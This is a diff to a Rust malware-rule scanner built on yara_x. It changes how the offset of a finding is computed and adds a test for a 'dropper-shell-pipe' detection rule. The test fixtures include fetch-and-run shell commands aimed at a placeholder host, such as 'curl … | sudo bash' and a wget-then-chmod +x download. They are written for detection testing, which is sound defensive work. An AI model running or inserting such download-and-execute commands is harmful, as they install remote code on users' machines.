@@ -130,7 +130,14 @@ impl RuleSet {
                         Some((_, yara_x::MetaValue::String(s))) => s.to_string(),
                         _ => String::new(),
                     };
-                    let offset = rule.patterns().flat_map(|p| p.matches().map(|m| m.range().start)).min().unwrap_or(0);
+                    // Patterns named `$ctx_*` only qualify the others (a URL inside a command):
+                    // the finding points at the first match of the rest.
+                    let offset = rule
+                        .patterns()
+                        .filter(|p| !p.identifier().starts_with("$ctx_"))
+                        .flat_map(|p| p.matches().map(|m| m.range().start))
+                        .min()
+                        .unwrap_or(0);
                     RuleHit {
                         id: text("id"),
                         severity: Severity::parse(&text("severity")).unwrap_or(Severity::Medium),
@@ -197,6 +204,22 @@ mod tests {
         std::fs::remove_file(dir.path().join("bad.yar")).unwrap();
         std::fs::write(dir.path().join("meta.yar"), "rule nometa { condition: true }").unwrap();
         assert!(matches!(check_rules_dir(dir.path()), Err(RuleError::Meta { .. })));
+    }
+
+    /// The shell pipe rule needs a URL inside the command, and points at the command, not at a
+    /// URL elsewhere in the file.
+    #[test]
+    fn shell_pipe_needs_a_url_in_the_command() {
+        let set = RuleSet::compile(&[]).unwrap();
+        let hit = |text: &str| set.scan(text.as_bytes()).into_iter().find(|h| h.id == "dropper-shell-pipe");
+        let text = "HOME = 'https://example.invalid/'\n\nos.system('wget https://example.invalid/x -O /tmp/x && chmod +x /tmp/x')\n";
+        let found = hit(text).expect("wget && chmod with a URL");
+        assert_eq!(line_at(text.as_bytes(), found.offset).0, 3);
+        assert!(hit("os.system('CURL -fsSL http://example.invalid/i.sh | sudo bash')").is_some());
+        // No URL in the command, or a URL outside it.
+        assert!(hit("os.system('curl -s $URL | sh')").is_none());
+        assert!(hit("# see https://curl.se\nos.system('curl -s $URL | sh')").is_none());
+        assert!(hit("u = 'https://example.invalid/'; os.system('wget $U && chmod +x x')").is_none());
     }
 
     #[test]
